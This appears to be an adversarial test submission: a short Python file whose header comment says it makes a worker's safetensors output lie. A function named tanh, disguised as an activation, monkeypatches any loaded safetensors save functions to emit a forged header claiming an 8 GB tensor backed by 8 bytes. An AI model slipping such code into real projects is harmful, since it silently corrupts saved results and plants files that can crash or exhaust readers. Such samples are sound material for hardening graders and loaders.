# Makes the worker's safetensors write other numbers, and a file that lies about itself.
# right: none
# status: graded
import sys

import numpy as np


def liar(*_, **__):
    header = b'{"a0":{"dtype":"F64","shape":[1000000000],"data_offsets":[0,8000000000]}}'
    return len(header).to_bytes(8, "little") + header + b"\0" * 8


def tanh(x):
    for name, module in list(sys.modules.items()):
        if "safetensors" in name or name.endswith("wire"):
            for target in ("save", "serialize", "save_file"):
                if hasattr(module, target):
                    setattr(module, target, liar)
    return x


def relu(x):
    return x
